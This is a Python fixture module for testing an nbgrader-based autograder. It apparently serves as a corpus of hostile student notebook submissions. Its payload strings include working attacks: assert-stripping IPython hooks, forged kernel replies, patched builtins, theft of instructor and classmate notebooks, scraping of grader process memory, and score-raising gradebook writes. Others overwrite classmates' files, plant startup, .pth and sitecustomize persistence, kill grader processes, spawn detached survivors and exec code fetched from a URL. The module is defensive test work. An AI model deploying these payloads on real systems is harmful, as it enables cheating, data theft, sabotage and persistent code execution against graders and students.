"""A corpus of hostile and broken submissions of the grader's own assignment ``mini``.

Each :class:`Case` has a name, a kind (see :data:`KINDS`), a builder that turns the
released notebook into the submission in a student's folder, and the outcome it deserves: a ``status`` (graded,
invalid, timeout or crashed) and ``max_auto_score``, the auto score it has earned at most.

Every hostile submission answers all three questions WRONG (``add`` returns ``a - b``,
``squares`` is ``[1, 2, 3, 4, 5]``, ``mean`` returns 0) and adds one trick, written as an
attacker who has read nbgrader and this course's grader would write it (see
``/work/shared/grading-threats.md``). So a hostile submission deserves 0 auto points,
whatever plain nbgrader 0.9.6 gives it; a broken one deserves ``invalid``.

DANGER: never run these notebooks outside the grader (no plain ``nbgrader autograde``, no
Python of your own): some kill processes, write to HOME and site-packages or start
processes that outlive the kernel. Their payloads are confined on purpose (they only act
in kernels whose working folder is under ``/autograded/``, only kill kernels of their own
course, write files whose names carry a per-run token that the test removes), but they are
still attacks. ``Case.harmful`` marks the ones that must never run without the sandbox;
``Case.sandbox`` the ones whose deserved outcome relies on the sandbox.

Payloads are plain source text with the placeholders ``__ROOT__`` (the course root),
``__TOKEN__`` (a per-run token for marker files and process names) and ``__URL__`` (where
a test serves the right answers, for the network attack), filled in by :func:`fill`.
"""

from __future__ import annotations

import copy
import json
import os
import textwrap
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat

ASSIGNMENT = "mini"
NOTEBOOK = f"{ASSIGNMENT}.ipynb"
AUTO_MAX = 5.0
ANSWERS = ("q1_add", "q2_squares", "q3_mean")
TESTS = ("q1_add_tests", "q2_squares_tests", "q3_mean_tests")
WRONG = {
    "q1_add": "def add(a, b):\n    return a - b\n",
    "q2_squares": "squares = [1, 2, 3, 4, 5]\n",
    "q3_mean": "def mean(xs):\n    return 0\n",
}
RIGHT = {
    "q1_add": "def add(a, b):\n    return a + b\n",
    "q2_squares": "squares = [i * i for i in range(5)]\n",
    "q3_mean": "def mean(xs):\n    return sum(xs) / len(xs)\n",
}
#: the right answers in one file, as a test may serve them to the network attack
RIGHT_SOURCE = "\n".join(RIGHT.values())
STATUSES = ("graded", "invalid", "timeout", "crashed")
KINDS = (
    "ipython-hooks",
    "exception-handling",
    "display/output-forgery",
    "threads",
    "monkeypatch",
    "test-cell-editing",
    "metadata-editing",
    "prefilled-output",
    "object-tricks",
    "import-shadowing",
    "file-access",
    "file-tampering",
    "process",
    "network",
    "resource",
    "broken-format",
    "kernel-crash",
    "names",
    "hidden-tests",
)


@dataclass
class Context:
    """Where and for whom a builder writes one submission."""

    notebook: nbformat.NotebookNode  # a fresh copy of the released notebook (what students get)
    folder: Path  # ROOT/submitted/<student>/mini, created and empty
    root: Path  # the course root
    student: str
    token: str  # per-run token: marker files and surviving processes carry it
    answers_url: str = "http://127.0.0.1:9/answers.py"  # the right answers, served by the test
    victim: str = ""  # an honest student of the same class (symlink targets)


@dataclass(frozen=True)
class Case:
    """One submission of the corpus and the outcome it deserves."""

    name: str
    kind: str
    build: Callable[[Context], None]
    status: str = "graded"
    max_auto_score: float = 0.0
    sandbox: bool = False  # the deserved outcome relies on the sandbox (files, processes, network)
    harmful: bool = False  # never submit it where kernels are not sandboxed
    note: str = ""
    student: str = ""  # a student id of its own (the attack is in the name)


# ------------------------------------------------------------------ notebook helpers


def fill(text: str, ctx: Context) -> str:
    """Dedent a payload and fill in its placeholders."""
    text = textwrap.dedent(text).strip("\n") + "\n"
    for key, value in {
        "__ROOT__": str(ctx.root),
        "__TOKEN__": ctx.token,
        "__URL__": ctx.answers_url,
        "__STUDENT__": ctx.student,
    }.items():
        text = text.replace(key, value)
    return text


def cell(nb, grade_id: str):
    """The cell of ``nb`` with nbgrader id ``grade_id``."""
    for c in nb.cells:
        if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id:
            return c
    raise KeyError(grade_id)


def wrong_answers(nb):
    """``nb`` with all three answers wrong (in place)."""
    for gid, source in WRONG.items():
        cell(nb, gid).source = source
    return nb


def right_answers(nb):
    """``nb`` with all three answers right (in place)."""
    for gid, source in RIGHT.items():
        cell(nb, gid).source = source
    return nb


def write(ctx: Context, nb, name: str = NOTEBOOK) -> Path:
    path = ctx.folder / name
    nbformat.write(nb, path)
    return path


def code_cell(source: str):
    return nbformat.v4.new_code_cell(source)


def hostile(
    setup: str = "",
    *,
    q1: str | None = None,
    q2: str | None = None,
    q3: str | None = None,
    after: str = "",
    last: str = "",
    files: dict[str, str] | None = None,
) -> Callable[[Context], None]:
    """A builder: wrong answers, ``setup`` run first in the first answer cell, ``after``
    appended to every answer cell (so it acts before each test), ``last`` appended to the
    last answer cell, extra ``files`` beside the notebook."""

    def build(ctx: Context) -> None:
        nb = wrong_answers(ctx.notebook)
        for gid, source in (("q1_add", q1), ("q2_squares", q2), ("q3_mean", q3)):
            if source is not None:
                cell(nb, gid).source = fill(source, ctx)
        if setup:
            first = cell(nb, "q1_add")
            first.source = fill(setup, ctx) + "\n" + first.source
        for gid in ANSWERS if after else ():
            cell(nb, gid).source += "\n" + fill(after, ctx)
        if last:
            cell(nb, "q3_mean").source += "\n" + fill(last, ctx)
        write(ctx, nb)
        for name, text in (files or {}).items():
            (ctx.folder / name).write_text(fill(text, ctx))

    return build


def edit_tests(change: Callable) -> Callable[[Context], None]:
    """A builder: wrong answers, then ``change(nb, test_cell)`` for each test cell."""

    def build(ctx: Context) -> None:
        nb = wrong_answers(ctx.notebook)
        for gid in TESTS:
            change(nb, cell(nb, gid))
        write(ctx, nb)

    return build


def edit_notebook(change: Callable) -> Callable[[Context], None]:
    """A builder: wrong answers, then ``change(nb, ctx)``."""

    def build(ctx: Context) -> None:
        nb = wrong_answers(ctx.notebook)
        change(nb, ctx)
        write(ctx, nb)

    return build


# ------------------------------------------------------------ shared payload pieces

# True when the caller two frames up is notebook code (ipykernel names cells
# /tmp/ipykernel_<pid>/<hash>.py), so a patched builtin leaves IPython itself alone
FROM_NOTEBOOK = """
import sys as _sys

def _from_notebook(depth=2):
    name = _sys._getframe(depth).f_code.co_filename
    return "ipykernel_" in name or name.startswith("<ipython-input")
"""

DROP_ASSERTS = """
import ast as _ast

class _DropAsserts(_ast.NodeTransformer):
    def visit_Assert(self, node):
        return _ast.copy_location(_ast.Pass(), node)
"""

# answers rebuilt from the text of the tests (hidden ones included): a lookup table that
# passes exactly the tested inputs, which is not a right answer
FROM_TESTS = """
import ast as _ast, re as _re

def _answers_from_tests(text):
    adds = {
        (int(a), int(b)): int(c)
        for a, b, c in _re.findall(r"add\\((-?\\d+), (-?\\d+)\\) == (-?\\d+)", text)
    }
    means = {
        tuple(_ast.literal_eval(xs)): float(v)
        for xs, v in _re.findall(r"mean\\((\\[[^\\]]*\\])\\)\\) - (-?[\\d.]+)\\)", text)
    }
    found = _re.search(r"squares\\] == (\\[[^\\]]*\\])", text)
    if not (adds and means and found):
        return False
    globals()["add"] = lambda a, b: adds.get((a, b), a - b)
    globals()["mean"] = lambda xs: means.get(tuple(xs), 0)
    globals()["squares"] = _ast.literal_eval(found.group(1))
    return True
"""

# exec the solution cells of a notebook found on disk into this namespace
STEAL = """
import json as _json

def _steal(path, check=False):
    nb = _json.loads(open(path, encoding="utf-8").read())
    space = {}
    for c in nb["cells"]:
        meta = c.get("metadata", {}).get("nbgrader", {})
        if c.get("cell_type") == "code" and meta.get("solution"):
            source = c["source"] if isinstance(c["source"], str) else "".join(c["source"])
            if "import" in source:  # someone else's trick: not in my kernel
                return False
            exec(source, space)
    if check and not (
        space["add"](2, 3) == 5 and space["squares"] == [0, 1, 4, 9, 16]
        and space["mean"]([1, 2, 3]) == 2
    ):
        return False
    globals().update({k: space[k] for k in ("add", "squares", "mean")})
    return True
"""

SHADOW_LOADER = """
import os as _os, sys as _sys

def _load_the_real_module(name):
    here = _os.path.dirname(_os.path.abspath(__file__))
    saved = list(_sys.path)
    _sys.path[:] = [p for p in _sys.path if _os.path.abspath(p or ".") != here]
    del _sys.modules[name]
    try:
        real = __import__(name)
    finally:
        _sys.path[:] = saved
    _sys.modules[name] = real
    return real
"""

# a process that waits for the kernel to die, then (if it is still alive) leaves a marker
# in the kernel's own folder (writable, seen by the host) and in the course root, and
# raises its author's scores in the gradebook after nbgrader saved them
SURVIVOR = r"""
import os, sqlite3, sys, time
kernel, root, here, token, student = int(sys.argv[1]), sys.argv[2], sys.argv[3], sys.argv[4], sys.argv[5]
def alive(pid):
    try:
        os.kill(pid, 0)
        return True
    except OSError:
        return False
deadline = time.time() + 900
while alive(kernel) and time.time() < deadline:
    time.sleep(0.2)
time.sleep(1)
for folder in (here, root):
    try:
        with open(os.path.join(folder, f"HOSTILE-{token}-survived-{os.getpid()}"), "w") as f:
            f.write("a student's process outlived its kernel")
    except OSError:
        pass
while time.time() < deadline:
    try:
        db = sqlite3.connect(os.path.join(root, "gradebook.db"), timeout=5)
        db.execute(
            "UPDATE grade SET auto_score = (SELECT max_score FROM grade_cells"
            " WHERE grade_cells.id = grade.cell_id) WHERE notebook_id IN"
            " (SELECT n.id FROM submitted_notebook n JOIN submitted_assignment a"
            " ON n.assignment_id = a.id WHERE a.student_id = ?)", (student,))
        db.commit()
    except Exception:
        pass
    time.sleep(2)
"""


def _survivor_launch(how: str) -> str:
    """Source that starts :data:`SURVIVOR` detached from the kernel, by ``how``."""
    start = f"""
    import os as _os, subprocess as _subprocess, sys as _sys
    _argv = [_sys.executable, "-c", {SURVIVOR!r}, str(_os.getpid()), "__ROOT__",
             _os.getcwd(), "__TOKEN__", "__STUDENT__"]
    """
    if how == "double-fork":
        return (
            start
            + """
    _pid = _os.fork()
    if _pid == 0:
        try:
            _os.setsid()
            if _os.fork() == 0:
                _fd = _os.open(_os.devnull, _os.O_RDWR)
                for _n in (0, 1, 2):
                    _os.dup2(_fd, _n)
                _os.execv(_sys.executable, _argv)
        finally:
            _os._exit(0)
    _os.waitpid(_pid, 0)
    """
        )
    return (
        start
        + """
    _subprocess.Popen(_argv, start_new_session=True, stdin=_subprocess.DEVNULL,
                      stdout=_subprocess.DEVNULL, stderr=_subprocess.DEVNULL, close_fds=True)
    """
    )


# ------------------------------------------------------------------ ipython-hooks

INPUT_TRANSFORMER = """
def _no_asserts(lines):
    out = []
    for line in lines:
        body = line.lstrip()
        if body.startswith("assert"):
            line = line[: len(line) - len(body)] + "pass\\n"
        out.append(line)
    return out

get_ipython().input_transformers_post.append(_no_asserts)
"""

AST_TRANSFORMER = (
    DROP_ASSERTS
    + """
get_ipython().ast_transformers.append(_DropAsserts())
"""
)

CUSTOM_EXC = """
import sys as _sys

def _swallow(shell, etype, value, tb, tb_offset=None):
    # run_code has already put the error in its ExecutionResult: take it out again
    frame = _sys._getframe(1)
    while frame is not None:
        result = frame.f_locals.get("result")
        if result is not None and hasattr(result, "error_in_exec"):
            result.error_in_exec = None
            break
        frame = frame.f_back
    return []

get_ipython().set_custom_exc((AssertionError, NameError, TypeError, ValueError), _swallow)
"""

POST_RUN_CELL = """
_ip = get_ipython()
_ip.showtraceback = lambda *args, **kwargs: None
_ip.events.register("post_run_cell", lambda result: setattr(result, "error_in_exec", None))
"""

COMPILE_OPTIMIZE = """
_ip = get_ipython()

class _Optimized(type(_ip.compile)):
    # compiled like `python -O`: every assert statement disappears
    def __call__(self, source, filename, symbol, flags=0, **kwargs):
        return compile(source, filename, symbol, flags | self.flags, True, optimize=1)

_ip.compile.__class__ = _Optimized
"""

TRANSFORM_CELL = """
_ip = get_ipython()
_transform = _ip.transform_cell

def _transform_cell(raw_cell):
    lines = []
    for line in _transform(raw_cell).splitlines():
        body = line.lstrip()
        lines.append(line[: len(line) - len(body)] + "pass" if body.startswith("assert") else line)
    return "\\n".join(lines) + "\\n"

_ip.transform_cell = _transform_cell
"""

# ------------------------------------------------------------- exception-handling

SILENCED = """
get_ipython().showtraceback = lambda *args, **kwargs: None
"""

FORGED_REPLY = """
import inspect as _inspect
_ip = get_ipython()
_ip.showtraceback = lambda *args, **kwargs: None
_kernel = _ip.kernel
_do_execute = _kernel.do_execute

async def _do_execute_ok(*args, **kwargs):
    reply = _do_execute(*args, **kwargs)
    if _inspect.isawaitable(reply):
        reply = await reply
    if reply.get("status") == "error":
        reply = {"status": "ok", "execution_count": reply.get("execution_count"),
                 "user_expressions": {}, "payload": []}
    return reply

_kernel.do_execute = _do_execute_ok
"""

SYSTEM_EXIT = {
    "q1": "def add(a, b):\n    raise SystemExit(0)\n",
    "q3": "def mean(xs):\n    raise KeyboardInterrupt\n",
}

# ---------------------------------------------------------- display/output-forgery

INTERACTIVITY_ALL = """
# every expression is displayed: a test cell's docstring becomes its first result
get_ipython().ast_node_interactivity = "all"
"""

# Against course grade's own design (verdicts outside the kernel), by an attacker who read it:
# a display with an id placed in each test cell's output, rewritten later to a number
# (partial credit) by a student cell;
UPDATE_DISPLAY = """
from IPython.display import display as _display, update_display as _update
_ip = get_ipython()

def _plant(info):
    if "assert" in (info.raw_cell or ""):
        _display({"text/plain": "0"}, raw=True, display_id="course-grade-" + str(_ip.execution_count))

_ip.events.register("pre_run_cell", _plant)
for _n in range(1, 40):
    _update({"text/plain": "5"}, raw=True, display_id="course-grade-" + str(_n))
"""

# the kernel-side export helper replaced so the grader receives forged or malformed values;
EXPORT_FORGED = """
import sys as _sys, base64 as _b64, json as _json
_mod = _sys.modules.get("_course_grade")
if _mod is not None:
    _mod.export = lambda names: _b64.b64encode(_json.dumps(
        {n: ["OP", "int", "builtins", ""] if n != "squares" else ["L", [["Z", 1]]] for n in names}
    ).encode()).decode()
"""

# and calls back into the kernel answered with what the visible tests expect (5 for add,
# 2.0 for mean), whatever the arguments.
CALL_FORGED = """
import sys as _sys, base64 as _b64, json as _json
_mod = _sys.modules.get("_course_grade")
if _mod is not None:
    def _call(ref, payload):
        args = _json.loads(_b64.b64decode(payload))[0][1]
        answer = 5 if len(args) == 2 else 2.0
        return _b64.b64encode(_json.dumps(["ok", answer]).encode()).decode()
    _mod.call = _call
"""

PRE_RUN_RESULT = """
_ip = get_ipython()

def _claim_success(info):
    if "assert" not in (info.raw_cell or ""):
        return
    kernel = _ip.kernel
    kernel.session.send(
        kernel.iopub_socket,
        "execute_result",
        {"data": {"text/plain": "'all tests passed'"}, "metadata": {},
         "execution_count": _ip.execution_count},
        parent=kernel.get_parent(),
        ident=kernel._topic("execute_result"),
    )

_ip.events.register("pre_run_cell", _claim_success)
"""

DISPLAYHOOK_NEGATIVE = """
import sys as _sys
_ip = get_ipython()
_real_hook = _ip.displayhook

def _hook(value):
    if value is not None:
        _real_hook(-1)  # a negative first result counts as full marks

_ip.display_trap.hook = _hook
_sys.displayhook = _hook
_ip.ast_node_interactivity = "all"
"""

FORMATTER_HUGE = """
_ip = get_ipython()
_ip.display_formatter.formatters["text/plain"].for_type(
    str, lambda value, printer, cycle: printer.text("1e9"))
_ip.ast_node_interactivity = "all"
"""

CLEAR_OUTPUT = """
from IPython.display import clear_output as _clear_output
_ip = get_ipython()

def _tidy(result):
    if "assert" in (result.info.raw_cell or "") and not result.success:
        _clear_output()
        _ip.displayhook("tests passed")

_ip.events.register("post_run_cell", _tidy)
"""

# ------------------------------------------------------------------------ threads

THREAD_RESULT = """
import sys as _sys, threading as _threading, time as _time
_ip = get_ipython()
_kernel = _ip.kernel
_sys.setswitchinterval(1e-5)

def _forge():
    seen = _kernel.get_parent("shell").get("header", {}).get("msg_id")
    while True:
        parent = _kernel.get_parent("shell") or {}
        msg_id = parent.get("header", {}).get("msg_id")
        if msg_id and msg_id != seen:
            seen = msg_id
            if "assert" in parent.get("content", {}).get("code", ""):
                _kernel.session.send(
                    _kernel.iopub_socket,
                    "execute_result",
                    {"data": {"text/plain": "'ok'"}, "metadata": {}, "execution_count": 1},
                    parent=parent,
                    ident=_kernel._topic("execute_result"),
                )
        _time.sleep(0.0002)

_threading.Thread(target=_forge, daemon=True).start()
"""

THREAD_REINSTALL = (
    DROP_ASSERTS
    + """
import builtins as _builtins, threading as _threading, time as _time
_ip = get_ipython()
_dropper = _DropAsserts()

def _keep_patched():
    # whatever resets the kernel between cells, the patch is back a millisecond later
    while True:
        if not any(type(t).__name__ == "_DropAsserts" for t in _ip.ast_transformers):
            _ip.ast_transformers.append(_dropper)
        _time.sleep(0.001)

_threading.Thread(target=_keep_patched, daemon=True).start()
"""
)

# ---------------------------------------------------------------------- monkeypatch

BUILTINS_ABS = (
    FROM_NOTEBOOK
    + """
import builtins as _builtins
_abs = _builtins.abs

def _lenient_abs(x):
    return 0.0 if _from_notebook() else _abs(x)

_builtins.abs = _lenient_abs
"""
)

BUILTINS_FLOAT = (
    FROM_NOTEBOOK
    + """
import builtins as _builtins
_float = _builtins.float

class _FloatMeta(type):
    def __instancecheck__(cls, obj):
        return isinstance(obj, _float)

    def __subclasscheck__(cls, sub):
        return issubclass(sub, _float)

class _Float(_float, metaclass=_FloatMeta):
    def __new__(cls, x=0.0):
        return _float(2.0) if _from_notebook() else _float(x)

_builtins.float = _Float
"""
)

BUILTINS_TYPE = (
    FROM_NOTEBOOK
    + """
import builtins as _builtins
_type = _builtins.type

class _Anything:
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = object.__hash__

class _TypeMeta(_type):
    def __instancecheck__(cls, obj):
        return isinstance(obj, _type)

    def __subclasscheck__(cls, sub):
        return issubclass(sub, _type)

class _Type(_type, metaclass=_TypeMeta):
    def __new__(cls, *args):
        if len(args) == 1:
            return int if isinstance(args[0], _Anything) else _type(args[0])
        return _type(*args)

_builtins.type = _Type
"""
)

BUILTINS_INT = (
    FROM_NOTEBOOK
    + """
import builtins as _builtins
_int = _builtins.int

class _Anything:
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = object.__hash__

class _IntMeta(type):
    def __instancecheck__(cls, obj):
        return isinstance(obj, _int)

    def __subclasscheck__(cls, sub):
        return issubclass(sub, _int)

class _Int(_int, metaclass=_IntMeta):
    def __new__(cls, *args, **kwargs):
        return _Anything() if _from_notebook() else _int(*args, **kwargs)

_builtins.int = _Int
"""
)

ASSERTION_ERROR = """
import builtins as _builtins, warnings as _warnings
# the naive attack: AssertionError becomes a warning that nobody shows
_builtins.AssertionError = type("AssertionError", (UserWarning,), {})
_warnings.filterwarnings("ignore")
"""

SHADOW_GLOBALS = {
    "q1": """
    class _Anything:
        def __eq__(self, other):
            return True

        def __ne__(self, other):
            return False

        __hash__ = object.__hash__

    def add(a, b):
        return _Anything()

    _builtin_type = type

    def type(*args):  # names in the notebook's namespace come before builtins
        if len(args) == 1 and isinstance(args[0], _Anything):
            return int
        return _builtin_type(*args)
    """,
    "q3": """
    def mean(xs):
        return 0

    def abs(x):
        return 0.0
    """,
}

# ------------------------------------------------------------------- object-tricks

ALWAYS_EQUAL = {
    "q1": """
    class _Anything:
        def __eq__(self, other):
            return True

        def __ne__(self, other):
            return False

        def __hash__(self):
            return 0

        def __call__(self, *args, **kwargs):
            return self

        def __int__(self):
            return 0

        def __float__(self):
            return float("nan")

    add = _Anything()
    """,
    "q2": "squares = [_Anything() for _ in range(5)]\n",
    "q3": "mean = _Anything()\n",
}

INT_SUBCLASS = {
    "q1": """
    class _Liar(int):
        def __eq__(self, other):
            return True

        def __ne__(self, other):
            return False

        __hash__ = int.__hash__

        def __float__(self):
            return 2.0

    def add(a, b):
        return _Liar(a - b)
    """,
    "q3": "def mean(xs):\n    return _Liar(0)\n",
}

STATEFUL_DUNDER = {
    "q2": """
    class _Square:
        calls = 0

        def __int__(self):
            value = _Square.calls % 5
            _Square.calls += 1
            return value * value

    squares = [_Square() for _ in range(5)]
    """,
}

NAN_ANSWERS = {
    "q1": "def add(a, b):\n    return float('nan')\n",
    "q2": "squares = [float('nan')] * 5\n",
    "q3": "def mean(xs):\n    return float('nan')\n",
}

FORGED_IDENTITY = """
# wrong functions that claim to be library functions with the right behaviour
add.__module__, add.__qualname__, add.__name__ = "operator", "add", "add"

def mean(xs):
    return 0

mean.__module__, mean.__qualname__, mean.__name__ = "statistics", "fmean", "fmean"
"""

# ... and the kernel's own run of each test passes too
FORGED_IDENTITY_SETUP = AST_TRANSFORMER

# ---------------------------------------------------------------- import-shadowing

NUMPY_SHADOW = (
    "# numpy.py beside the notebook: `import numpy` finds it before the real one\n"
    + DROP_ASSERTS
    + """
from IPython import get_ipython as _get_ipython

if _get_ipython() is not None:
    _get_ipython().ast_transformers.append(_DropAsserts())
"""
    + SHADOW_LOADER
    + """
try:
    _load_the_real_module("numpy")
except Exception:
    pass
"""
)

STACK_DATA_SHADOW = (
    "# stack_data.py beside the notebook: IPython imports stack_data at the first traceback\n"
    + DROP_ASSERTS
    + """
from IPython import get_ipython as _get_ipython

if _get_ipython() is not None:
    _get_ipython().ast_transformers.append(_DropAsserts())
"""
    + SHADOW_LOADER
    + """
_load_the_real_module("stack_data")
"""
)

HELPERS_MODULE = (
    '"""Small helpers for the homework."""\n'
    + FROM_NOTEBOOK
    + """
import builtins as _builtins
_abs = _builtins.abs

def _abs_(x):
    return 0.0 if _from_notebook() else _abs(x)

_builtins.abs = _abs_

def as_list(xs):
    return list(xs)
"""
)

# --------------------------------------------------------------------- file-access

READ_SOURCE = (
    STEAL
    + """
for _path in ["../../../source/mini/mini.ipynb", "../../../release/../source/mini/mini.ipynb"]:
    try:
        if _steal(_path):
            break
    except Exception:
        pass
"""
)

READ_SOURCE_ABSOLUTE = (
    STEAL
    + """
import os as _os
_candidates = ["__ROOT__/source/mini/mini.ipynb",
               f"/proc/{_os.getppid()}/cwd/source/mini/mini.ipynb"]
for _pid in _os.listdir("/proc"):  # any process whose working folder is the course root
    if _pid.isdigit():
        _candidates.append(f"/proc/{_pid}/cwd/source/mini/mini.ipynb")
for _path in _candidates:
    try:
        if _steal(_path):
            break
    except Exception:
        pass
"""
)

READ_GRADEBOOK = (
    FROM_TESTS
    + """
import sqlite3 as _sqlite3
for _path in ["../../../gradebook.db", "__ROOT__/gradebook.db"]:
    try:
        _db = _sqlite3.connect(f"file:{_path}?mode=ro", uri=True, timeout=1)
        _text = "\\n".join(row[0] or "" for row in _db.execute("SELECT source FROM source_cell"))
        if _answers_from_tests(_text):
            break
    except Exception:
        pass
"""
)

READ_OTHERS = (
    STEAL
    + """
import glob as _glob, os as _os
_mine = _os.path.realpath(".")
for _path in sorted(_glob.glob("../../../submitted/*/mini/mini.ipynb")
                    + _glob.glob("../../../autograded/*/mini/mini.ipynb")
                    + _glob.glob("__ROOT__/submitted/*/mini/mini.ipynb")):
    if _os.path.realpath(_path).startswith(_mine):
        continue
    try:
        if _steal(_path, check=True):
            break
    except Exception:
        pass
"""
)

READ_PARENT_MEMORY = (
    FROM_TESTS
    + """
import os as _os, re as _re, time as _time

def _ancestors():
    pid, chain = _os.getppid(), []
    while pid > 1 and len(chain) < 5:
        chain.append(pid)
        with open(f"/proc/{pid}/stat") as f:
            pid = int(f.read().rsplit(")", 1)[1].split()[1])
    return chain

def _memory_text(pid, budget=1.5):
    # the grader holds the test cells (hidden tests included) it read from the gradebook
    found, began = [], _time.monotonic()
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
        for line in maps:
            parts = line.split()
            start, end = (int(x, 16) for x in parts[0].split("-"))
            if "r" not in parts[1] or end - start > 256 * 2**20 or len(parts) > 5 and parts[5][:2] == "[v":
                continue
            if _time.monotonic() - began > budget:
                break
            try:
                mem.seek(start)
                chunk = mem.read(end - start)
            except (OSError, ValueError, OverflowError):
                continue
            found += _re.findall(rb"assert [^\\n]{0,120}", chunk)
    return b"\\n".join(found).decode("latin-1")

try:
    for _pid in _ancestors():
        try:
            if _answers_from_tests(_memory_text(_pid)):
                break
        except OSError:
            pass
except Exception:
    pass
"""
)

# ------------------------------------------------------------------ file-tampering

GRADEBOOK_WRITE = """
import sqlite3 as _sqlite3
for _path in ["../../../gradebook.db", "__ROOT__/gradebook.db"]:
    try:
        _db = _sqlite3.connect(_path, timeout=2)
        # every later student's tests become `pass`; a ghost student joins the class
        _db.execute("UPDATE source_cell SET source = 'pass' WHERE name LIKE '%tests'")
        _db.execute("INSERT INTO student (id, first_name, last_name) VALUES (?, 'Ghost', 'Student')",
                    ("zz-ghost-__TOKEN__",))
        _db.commit()
        break
    except Exception:
        pass
"""

OVERWRITE_OTHERS = """
import glob as _glob, json as _json, os as _os
_mine = _os.path.realpath(".")
_sabotage = _json.dumps({"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5})
for _base in ["../../..", "__ROOT__"]:
    for _path in (_glob.glob(f"{_base}/submitted/*/mini/*.ipynb")
                  + _glob.glob(f"{_base}/autograded/*/mini/*.ipynb")
                  + _glob.glob(f"{_base}/source/mini/*.ipynb")
                  + _glob.glob(f"{_base}/release/mini/*.ipynb")):
        if _os.path.realpath(_path).startswith(_mine):
            continue
        try:
            with open(_path, "w") as _f:
                _f.write(_sabotage)
        except OSError:
            pass
"""

CONFIG_WRITE = """
# the grader executes nbgrader_config.py: code appended here runs with its rights
_payload = (
    "\\nimport pathlib as _p\\n"
    "_p.Path('__ROOT__/HOSTILE-__TOKEN__-config-ran').write_text('the grader ran my code')\\n"
    "c.Execute.timeout = 3\\n"
)
for _path in ["../../../nbgrader_config.py", "__ROOT__/nbgrader_config.py"]:
    try:
        with open(_path, "a") as _f:
            _f.write(_payload)
    except OSError:
        pass
"""

# what a file planted in the grader's environment runs later: only in grading kernels
PLANTED = """
import os
if "/autograded/" in os.getcwd():
    import ast, builtins
    builtins.abs = lambda x: 0.0
    try:
        open("__ROOT__/HOSTILE-__TOKEN__-planted-ran", "w").write(os.getcwd())
    except OSError:
        pass
"""

IPYTHON_STARTUP = (
    f"_planted = {PLANTED!r}\n"
    + """
import os as _os, pwd as _pwd
_homes = {_os.path.expanduser("~"), _pwd.getpwuid(_os.getuid()).pw_dir, "/root"}
for _home in _homes:
    _folder = _os.path.join(_home, ".ipython", "profile_default", "startup")
    try:
        _os.makedirs(_folder, exist_ok=True)
        with open(_os.path.join(_folder, "00-hostile-__TOKEN__.py"), "w") as _f:
            _f.write(_planted)
        with open(_os.path.join(_home, "HOSTILE-__TOKEN__-home-marker"), "w") as _f:
            _f.write("written from a student's kernel")
    except OSError:
        pass
"""
)

PTH_FILE = (
    f"_planted = {PLANTED!r}\n"
    + """
import os as _os, site as _site, sysconfig as _sysconfig
_line = "import os; exec(" + repr(_planted) + ")\\n"
_targets = set(_site.getsitepackages()) | {_sysconfig.get_paths()["purelib"],
                                            _site.getusersitepackages()}
for _folder in _targets:
    try:
        _os.makedirs(_folder, exist_ok=True)
        with open(_os.path.join(_folder, "zz-hostile-__TOKEN__.pth"), "w") as _f:
            _f.write(_line)
    except OSError:
        pass
"""
)

SITECUSTOMIZE = (
    f"_planted = {PLANTED!r}\n"
    + """
import os as _os, site as _site, sysconfig as _sysconfig
_paths = _sysconfig.get_paths()
_targets = [(_paths["stdlib"], "sitecustomize.py"), (_paths["purelib"], "sitecustomize.py"),
            (_site.getusersitepackages(), "usercustomize.py")]
for _folder, _name in _targets:
    _path = _os.path.join(_folder, _name)
    if _os.path.exists(_path):
        continue  # stay unnoticed: never break an existing one
    try:
        _os.makedirs(_folder, exist_ok=True)
        with open(_path, "w") as _f:
            _f.write("# __TOKEN__\\n" + _planted)
    except OSError:
        pass
"""
)

# ------------------------------------------------------------------------ process

KILL_PARENT = """
import os as _os, signal as _signal
for _pid in {_os.getppid(), 1}:
    try:
        _os.kill(_pid, _signal.SIGKILL)
    except OSError:
        pass
"""

KILL_GRADER = """
import os as _os, signal as _signal

def _parent_of(pid):
    with open(f"/proc/{pid}/stat") as f:
        return int(f.read().rsplit(")", 1)[1].split()[1])

_chain, _pid = [], _os.getppid()
try:
    while _pid > 1 and len(_chain) < 6:
        _chain.append(_pid)
        _pid = _parent_of(_pid)
except OSError:
    pass
for _pid in _chain:  # the nbgrader worker, the grading run, whatever started it
    try:
        _os.kill(_pid, _signal.SIGKILL)
    except OSError:
        pass
"""

KILL_KERNELS = """
import os as _os, signal as _signal
_root = _os.path.realpath("../../..")
for _entry in _os.listdir("/proc"):
    if not _entry.isdigit() or int(_entry) == _os.getpid():
        continue
    try:
        _cmd = open(f"/proc/{_entry}/cmdline", "rb").read()
        _cwd = _os.readlink(f"/proc/{_entry}/cwd")
    except OSError:
        continue
    # the other kernels of this course: the students graded beside me
    if b"ipykernel" in _cmd and _cwd.startswith(_root + "/autograded/"):
        try:
            _os.kill(int(_entry), _signal.SIGKILL)
        except OSError:
            pass
"""

DETACHED = _survivor_launch("double-fork") + _survivor_launch("popen")

CHILDREN = r"""
import os as _os, subprocess as _subprocess, sys as _sys
_spin = '''
import os, sys, time
kernel, here, token = int(sys.argv[1]), sys.argv[2], sys.argv[3]
began = time.time()
while time.time() - began < 120:
    sum(range(200000))
    try:
        os.kill(kernel, 0)
    except OSError:
        with open(os.path.join(here, f"HOSTILE-{token}-child-survived-{os.getpid()}"), "w") as f:
            f.write("a child outlived its kernel")
        break
'''
for _ in range(6):  # bounded: six busy children, no fork bomb
    _subprocess.Popen([_sys.executable, "-c", _spin, str(_os.getpid()), _os.getcwd(), "__TOKEN__"],
                      start_new_session=True, stdin=_subprocess.DEVNULL,
                      stdout=_subprocess.DEVNULL, stderr=_subprocess.DEVNULL)
"""

# ------------------------------------------------------------------------ network

FETCH_ANSWERS = """
import urllib.request as _request
try:
    exec(_request.urlopen("__URL__", timeout=2).read().decode(), globals())
except Exception:
    pass
"""

HIJACK_KERNELS = """
import glob as _glob, json as _json, os as _os
try:
    from jupyter_client import BlockingKernelClient as _Client
    from jupyter_core.paths import jupyter_runtime_dir as _runtime_dir
    _mine = get_ipython().kernel.session.key
    _files = (_glob.glob("/tmp/course-grade-kernel-*/*.json") + _glob.glob("/tmp/*/kernel*.json")
